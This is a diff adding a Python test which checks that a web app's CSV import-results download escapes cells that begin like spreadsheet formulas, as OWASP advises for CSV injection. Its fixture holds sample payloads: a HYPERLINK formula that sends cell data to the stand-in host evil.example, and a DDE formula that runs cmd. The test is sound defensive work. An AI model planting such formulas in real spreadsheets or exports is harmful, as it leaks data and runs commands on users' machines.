@@ -521,6 +521,24 @@ def test_an_import_lists_every_rows_outcome_and_offers_them_as_csv(browser, alic
     assert lines[2][6].startswith("Invalid network_url") and lines[0][6] == ""
 
 
+def test_the_import_results_csv_opens_cells_like_formulas_as_text(browser, alice):
+    """The download is for a spreadsheet, and its cells are the uploaded file's: one that starts as a formula
+    would (=, +, -, @, tab, carriage return) gets a quote before it (OWASP's CSV injection advice)."""
+    upload = (io.BytesIO(b'sep=,\n=Owner,LinkedIn URL,Note\n=HYPERLINK("http://evil.example/?"&A1),'
+                         b'https://www.linkedin.com/in/jane,+1\n@SUM(1),"=cmd|\' /C calc\'!A0",-2\n'
+                         b'"\tx",https://www.linkedin.com/in/al,plain - text\n'), "crm.csv")
+    page = browser.post("/subscriptions/import", data={"file": upload},
+                        content_type="multipart/form-data").get_data(as_text=True)
+    results = unquote(re.search(r'href="data:text/csv;charset=utf-8,([^"]+)" download', page).group(1))
+    header, *lines = csv.reader(io.StringIO(results))
+    assert header == ["'=Owner", "LinkedIn URL", "Note", "row", "result", "subscription_id", "code", "reason"]
+    assert [line[:5] for line in lines] == [
+        ["\'=HYPERLINK(\"http://evil.example/?\"&A1)", "https://www.linkedin.com/in/jane", "'+1", "1", "created"],
+        ["'@SUM(1)", "'=cmd|' /C calc'!A0", "'-2", "2", "refused"],
+        ["'\tx", "https://www.linkedin.com/in/al", "plain - text", "3", "created"]]
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for line in lines for cell in line)
+
+
 def test_a_long_import_shows_progress_per_chunk_and_lists_refused_rows_past_the_cap(app, monkeypatch):
     monkeypatch.setattr(views, "IMPORT_ROWS_LISTED", 150)
     big = make_tenant(app, "Big Co", "enterprise")
